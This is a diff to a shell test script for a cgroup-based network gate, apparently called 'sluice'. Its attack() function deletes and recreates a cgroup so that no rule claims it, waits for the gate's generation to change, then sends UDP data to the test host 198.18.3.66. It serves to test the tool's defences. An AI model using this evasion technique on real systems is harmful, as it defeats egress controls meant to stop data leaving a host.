@@ -4,12 +4,15 @@ title='The cgroup removed and made again at the same path'
 origin='RESEARCH §2.76'
 reason='not_resolved'
 forms=output
-# Whoever makes the cgroup again waits, as a runner does, until the gate knows it: `sluice status` says cgroups_awaited.
+# The rules know a cgroup by its id.  Until the gate has seen the new one, nothing claims it (SECURITY.md): the attack waits for that.
 attack() {
+    local before
     if gate_on; then
+        before=$(generation)
         h c sh -c 'find "$0" -depth -type d -exec rmdir {} \; && mkdir "$0"' "$CGROUPS$CGROUP" || return
-        eventually 5 found_again
+        eventually 5 is_new "$before"
     fi
     tool send.py udp 198.18.3.66 9999 "$1"
 }
-found_again() { [ "$(h c "$SLUICE" status --json | jq .cgroups_awaited)" = 0 ]; }
+generation() { h c "$SLUICE" status --json | jq .generation; }
+is_new() { [ "$(generation)" != "$1" ]; }
